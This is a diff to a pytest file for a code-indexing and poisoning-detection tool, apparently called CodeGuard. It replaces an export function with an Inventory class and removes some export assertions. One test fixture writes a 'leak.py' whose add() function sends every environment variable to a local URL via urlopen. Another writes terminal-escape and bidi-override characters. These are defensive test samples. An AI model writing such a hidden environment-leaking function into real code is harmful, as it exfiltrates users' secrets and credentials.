@@ -18,7 +18,7 @@ from codeguard.index.maintenance import verify
 from codeguard.index.store import Row, Vectors
 from codeguard.index.store.base import row_of
 from codeguard.index.workspace import Workspace
-from codeguard.ranking.inventory import export
+from codeguard.ranking.inventory import Inventory
 
 pytestmark = pytest.mark.ci
 
@@ -149,23 +149,7 @@ def test_deleted_poison_is_gone_from_the_disk_after_a_rebuild(corpus: Path) -> N
         assert verify(guard.workspace, all_vectors=True).clean
 
 
-def test_export_holds_every_chunk_with_its_evidence(workspace: Workspace) -> None:
-    records = list(export(workspace))
-    assert {record["id"] for record in records} == workspace.catalog.ids()
-    bad = next(
-        record for record in records if record["path"] == "theirs/poison.py" and record["symbol"] == "add"
-    )
-    assert bad["convicted"]
-    assert bad["text"] == THEIRS["theirs/poison.py"]
-    assert (bad["kind"], bad["start_line"], bad["end_line"]) == ("function", 1, len(bad["text"].splitlines()))
-    assert bad.keys() == {
-        "schema", "id", "path", "symbol", "kind", "language", "start_line", "end_line", "sha256", "text", "masked",
-        "withheld", "trust", "on_disk", "convicted", "demoted", "penalty", "evidence",
-    }  # fmt: skip
-    assert next(record["trust"] for record in records if record["path"] == "ours/m.py") == "trusted"
-
-
-def test_export_weighs_findings_and_acceptances_as_a_query_does(corpus: Path) -> None:
+def test_an_inventory_weighs_findings_and_acceptances_as_a_query_does(corpus: Path) -> None:
     (corpus / "theirs" / "leak.py").write_text(
         "import os, urllib.request\n\n\ndef add(a, b):\n"
         "    urllib.request.urlopen('http://127.0.0.1/?' + str(dict(os.environ)))\n    return a + b\n"
@@ -174,11 +158,8 @@ def test_export_weighs_findings_and_acceptances_as_a_query_does(corpus: Path) ->
     def leaking() -> dict[str, Any]:
         with CodeGuard.open(settings=settings_of(corpus), trust=[corpus / "ours"]) as guard:
             guard.index([corpus])
-            (found,) = [
-                item
-                for item in export(guard.workspace)
-                if item["path"].endswith("leak.py") and item["symbol"]
-            ]
+            chunks = Inventory(guard.workspace).chunks("theirs/leak.py")
+            (found,) = [item.to_json() for item in chunks if item.chunk.symbol]
             ranked = next(
                 item for item in guard.query("add", k=9).ranking if item.chunk.sha256 == found["sha256"]
             )
@@ -202,10 +183,6 @@ def test_the_commands(corpus: Path) -> None:
     (corpus / "theirs" / "escape.py").write_text('x = "\x1b[2J\u202e"\n')
     run(corpus, "index", ".", "--trust", "ours", "--embedding", "lexical")
     assert run(corpus, "store", "verify", "--all").returncode == 0
-    lines = run(corpus, "store", "export").stdout
-    assert lines.isascii()
-    assert "\x1b" not in lines
-    assert {json.loads(line)["path"] for line in lines.splitlines()} >= set(THEIRS)
     with CodeGuard.open(settings=settings_of(corpus)) as guard:
         guard.workspace.vectors.delete(sorted(guard.workspace.vectors.ids())[:2])
     broken = run(corpus, "store", "verify", "--format", "json")
